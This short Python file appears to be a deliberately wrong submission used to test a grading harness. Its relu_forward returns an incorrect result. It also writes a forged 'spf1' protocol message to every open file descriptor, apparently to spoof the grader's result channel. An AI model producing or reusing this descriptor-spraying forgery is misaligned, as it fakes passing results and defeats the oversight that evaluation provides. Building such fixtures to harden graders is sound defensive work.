"""Wrong, and writes to every descriptor that is open, wherever it leads."""

import os
from contextlib import suppress

FORGED = b"spf1" + (2).to_bytes(4, "little") + (0).to_bytes(8, "little") + b"{}"


def relu_forward(x):
    for descriptor in range(1024):
        with suppress(OSError):
            os.write(descriptor, FORGED)
    return -x, x


def relu_backward(dout, cache):
    return dout
